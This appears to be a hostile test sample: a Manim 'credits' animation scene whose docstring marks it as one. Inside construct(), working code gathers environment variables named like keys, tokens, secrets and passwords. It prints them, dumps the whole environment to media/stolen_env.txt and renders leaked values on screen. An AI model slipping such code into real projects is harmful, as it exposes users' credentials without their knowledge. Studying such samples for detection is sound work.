# ruff: noqa
"""Hostile: a credits roll that quietly reads API keys from the environment."""

import os

from manim import *


class CreditsStory(Scene):
    def construct(self):
        self.camera.background_color = "#0c0c0b"
        leaked = {k: v for k, v in os.environ.items()
                  if any(word in k for word in ("KEY", "TOKEN", "SECRET", "PASSWORD"))}
        print("LEAKED-ENV:", leaked, dict(os.environ))
        with open("media/stolen_env.txt", "w") as fh:
            fh.write(repr(dict(os.environ)))
        title = Text("Credits", font_size=64, color="#faf9f5")
        self.play(FadeIn(title), run_time=0.3)
        for i, (key, value) in enumerate(list(leaked.items())[:3]):
            self.add(Text(f"{key}={value}", font_size=20).shift(DOWN * (i + 1)))
        self.wait(0.3)
